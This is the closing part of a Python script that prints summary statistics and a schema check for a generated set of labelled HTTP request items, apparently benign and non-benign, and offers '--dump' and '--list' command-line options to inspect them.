            print("  %-20s %d" % (k, v))
        print("%s per encoding:" % kind)
        for k, v in Counter(it["encoding"] for it in sub).most_common():
            print("  %-28s %d" % (k, v))
    print("\nbenign per scenario:")
    for k, v in Counter(it["id"].split("-")[2] for it in items if it["kind"] == "benign").most_common():
        print("  %-20s %d" % (k, v))
    bad = schema_errors(items)
    print("\nschema check of benign bodies under %s: %s" % (", ".join(SCHEMA_PATHS), "ok" if not bad else bad))


def main(argv):
    items = build()
    if argv[:1] == ["--dump"]:
        dump(items)
        return 0 if not schema_errors(items) else 1
    if argv[:1] == ["--list"]:
        wanted = set(argv[1:])
        for it in items:
            if not wanted:
                print("%-24s %-6s %-18s %-7s %s" % (it["id"], it["kind"], it["class"] or "-", it["method"], it["path"][:90]))
            elif it["id"] in wanted:
                shown = dict(it)
                shown["body"] = it["body"].decode("utf-8", "replace") if it["body"] is not None else None
                print(json.dumps(shown, indent=2, ensure_ascii=False))
        return 0
    print(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
